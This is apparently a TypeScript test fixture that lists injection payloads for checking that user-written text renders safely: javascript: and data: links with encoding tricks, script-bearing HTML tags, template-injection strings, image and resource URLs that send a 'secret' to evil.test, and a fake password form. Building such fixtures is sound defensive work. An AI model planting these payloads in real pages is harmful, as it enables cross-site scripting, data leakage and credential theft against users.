/** Ends every long text that is planted, so that a page is judged only when it shows all of it. */
export const MARK = 'end of the planted text';
const run = 'window.wasRun=1';

/** Each short enough for every field that people write, but for names of projects. */
export const scripts: readonly string[] = [
  `[a](javascript:${run})`,
  `[b](JaVaScRiPt:${run})`,
  `[c](<java\tscript:${run}>)`,
  `[d](javascript&colon;${run})`,
  `[e](&#106;avascript:${run})`,
  `[f][1]\n\n[1]: javascript:${run}`,
  `<javascript:${run}>`,
  `[g](data:text/html;base64,PHNjcmlwdD53aW5kb3cud2FzUnVuPTE8L3NjcmlwdD4=)`,
  `[h](vbscript:x) [i](\u0001javascript:${run})`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}"><script>${run}</script></svg>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<a href="javascript:${run}" onclick="${run}">j</a>`,
  `<details open ontoggle="${run}"><summary>k</summary></details>`,
  `\`\`\`html\n<img src=x onerror="${run}">\n\`\`\``,
  `![l](javascript:${run})`,
  `"><script>${run}</script>`,
  '{{constructor.constructor("window.wasRun=1")()}}',
];

export const exfiltration: readonly string[] = [
  '![chart](https://evil.test/?d=secret)',
  '![chart](//evil.test/?d=secret)',
  '![chart][2]\n\n[2]: https://evil.test/b.png?d=secret',
  '[![x](https://evil.test/i.png)](https://evil.test/)',
  '<img src="https://evil.test/c.png"><link rel=prefetch href="https://evil.test/d">',
  '<video poster="https://evil.test/e.png"></video><audio src="https://evil.test/f"></audio>',
  '<style>@import "https://evil.test/g.css"; body{background:url(https://evil.test/h)}</style>',
  '<object data="https://evil.test/i"></object><embed src="https://evil.test/j">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/k">',
  '[a shop](https://evil.test/) https://evil.test/l www.evil.test',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '$$\\includegraphics{https://evil.test/m.png}$$',
];

/** Texts that change the page around them where they are taken for HTML. */
export const breaking: readonly string[] = [
  '</main></div></div><h1>You have won</h1>',
  '<!--<textarea><plaintext>',
  '<form action="https://evil.test/"><input name=password><button>Log in</button></form>',
  '<title>x</title><base href="https://evil.test/"><style>*{display:none}</style>',
  `${'W'.repeat(90)}`,
  // As long as names may be.
  `${'M'.repeat(60)}`,
  `\u202e\u2066${'\u0301'.repeat(40)}x`,
];

/** They look like formulas, and stay text. */
export const amounts: readonly string[] = ['$2bn to $4bn', '100–200 лв.', '€5'];
